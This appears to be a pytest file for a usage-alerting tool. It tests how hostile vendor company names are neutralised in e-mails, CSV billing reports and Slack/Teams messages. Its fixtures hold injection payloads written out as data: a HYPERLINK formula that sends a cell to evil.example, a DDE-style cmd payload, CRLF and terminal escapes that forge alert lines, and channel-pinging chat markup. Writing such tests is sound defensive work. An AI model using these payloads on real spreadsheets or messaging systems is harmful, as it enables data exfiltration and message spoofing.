"""Hostile vendor text (issue 11, points 8 and 9): a company name that is a spreadsheet formula, or that
carries line breaks and terminal escapes to forge lines in the alert e-mail, or chat markup that would ping a
whole Slack or Teams channel or format the message. Keepnet behind the real handler,
moto and the simulator; the billing CSV and report through the real CLI against the same table."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator
from typing import Any

import pytest

from tests.faults.harness import Harness, at
from tests.faults.sims import HookedKeepnet
from tests.integration.conftest import Invoke
from tests.local_aws import LocalAws
from tests.simulators.keepnet import make_companies, over_limit
from usagewatch import cli
from usagewatch.notify import render_email, subject_for
from usagewatch.text import WORD_JOINER

SECRET = "usagewatch/keepnet"
CLIENT_SECRET = "kn-hostile-text-secret-9"
ACCOUNT = "kn-text"
PERIOD = "2026-11"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Invoice")'
FORGED = "Acme\r\nSeverity: info\r\n\r\nNo action needed: the condition no longer holds.\x1b[2J\x07\x00"
CONTROL = re.compile("[\x00-\x1f\x7f-\x9f]")


@pytest.fixture
def world(aws: LocalAws, invoke: Invoke, clock: Any) -> Iterator[tuple[Harness, HookedKeepnet]]:
    companies = make_companies(4, seed=5, over_limit=2, unlimited=0, prefix="x")
    flagged = [c for c in companies if over_limit(c)]
    flagged[0]["companyName"], flagged[1]["companyName"] = FORMULA, FORGED
    others = [c for c in companies if not over_limit(c)]
    others[0]["companyName"], others[1]["companyName"] = "+SUM(1,2)", "@cmd|' /C calc'!A0"
    with HookedKeepnet(companies=companies, clients={"msp": (CLIENT_SECRET, "Reseller")}, page_cap=10) as sim:
        assert isinstance(sim, HookedKeepnet)
        aws.put_secret(
            SECRET,
            [{"account_id": ACCOUNT, "base_url": sim.url, "client_id": "msp", "client_secret": CLIENT_SECRET}],
        )
        yield Harness(aws, invoke, clock, "keepnet", aws.environment("keepnet", secret_name=SECRET)), sim


def _cli(h: Harness, capsys: pytest.CaptureFixture[str], *args: str) -> str:
    capsys.readouterr()
    assert cli.main(["--table", h.aws.table_name, *args]) == 0
    return capsys.readouterr().out


def test_names_are_one_line_without_control_characters_in_the_store_events_and_email(
    world: tuple[Harness, HookedKeepnet],
) -> None:
    h, _sim = world
    outcome = h.run(at("06:00"))
    assert outcome.error is None, outcome.summary

    names = {item["tenant_name"] for item in h.stored(PERIOD).usage.values()}
    assert not [n for n in names if CONTROL.search(n)], names
    assert "Acme Severity: info No action needed: the condition no longer holds.[2J" in names

    forged = [e for e in outcome.events if e.get("tenant_name", "").startswith("Acme")]
    assert forged, "the company with the forged name is over its limit: it must have a breach"
    for event in forged:
        assert "\n" not in subject_for(event) and "\r" not in subject_for(event)
        assert not CONTROL.search(event["summary"]) and not CONTROL.search(event["tenant_name"])
        lines = render_email(event).split("\n")
        assert [line for line in lines if line.startswith("Severity:")] == [f"Severity: {event['severity']}"]
        assert not any(line.startswith("No action needed") for line in lines), "a forged line reached the e-mail"
        assert not any(CONTROL.search(line) for line in lines)


def test_the_billing_csv_never_starts_a_cell_with_a_formula(
    world: tuple[Harness, HookedKeepnet], capsys: pytest.CaptureFixture[str]
) -> None:
    h, _sim = world
    assert h.run(at("06:00")).error is None

    rows = list(csv.DictReader(io.StringIO(_cli(h, capsys, "report", "--period", PERIOD, "--csv"))))
    assert rows
    names = {row["tenant_name"] for row in rows}
    assert {"'" + FORMULA, "'+SUM(1,2)", "'@cmd|' /C calc'!A0"} <= names, names
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), (column, cell)
            assert not CONTROL.search(cell), (column, cell)
        assert float(row["value"]) >= 0

    report = _cli(h, capsys, "report", "--period", PERIOD)
    assert "\x1b" not in report and "\x07" not in report


CHAT_NAMES = ("<!channel> Acme", "*bold* [x](http://evil.example)", "Ops @here", "<@U012AB|boss> & _Co_")
# What Slack mrkdwn or Teams markdown would act on in the delivered message.
ACTIVE = re.compile(r"[<>*`\[\]|]|@(?:here|channel|everyone)\b|(?<![^\W_])_\w|\w_(?![^\W_])")


def test_chat_messages_show_hostile_names_literally_and_ping_no_one(aws: LocalAws, invoke: Invoke, clock: Any) -> None:
    companies = make_companies(6, seed=5, over_limit=4, unlimited=0, prefix="x")
    flagged = [c for c in companies if over_limit(c)]
    for company, name in zip(flagged, CHAT_NAMES, strict=True):
        company["companyName"] = name
    with HookedKeepnet(companies=companies, clients={"msp": (CLIENT_SECRET, "Reseller")}, page_cap=10) as sim:
        aws.put_secret(
            SECRET,
            [{"account_id": ACCOUNT, "base_url": sim.url, "client_id": "msp", "client_secret": CLIENT_SECRET}],
        )
        h = Harness(aws, invoke, clock, "keepnet", aws.environment("keepnet", secret_name=SECRET, chat=True))
        outcome = h.run(at("06:00"))
    assert outcome.error is None, outcome.summary
    names = {item["tenant_name"] for item in h.stored(PERIOD).usage.values()}
    assert set(CHAT_NAMES) <= names  # stored as the vendor sent them: only what is shown in chat changes

    chat = aws.drain_chat()
    assert chat, "the digest (and critical events) go to the chat topic"
    shown = ""
    for message in chat:
        for text in (message["content"]["title"], message["content"]["description"], message["metadata"]["summary"]):
            plain = text.split(" usagewatch: ", 1)[-1]  # the title starts with our own emoji code
            assert not ACTIVE.search(plain), plain
            shown += plain.replace(WORD_JOINER, "") + "\n"
    # Every hostile name reached chat, readable: the same words, the markup shown as look-alikes.
    for word in ("channel Acme", "bold", "http://evil.example", "Ops @here", "U012AB", "boss", "Co"):
        assert re.sub(r"[^\w:/.@ ]", "", word) in re.sub(r"[^\w:/.@ ]", "", shown), word
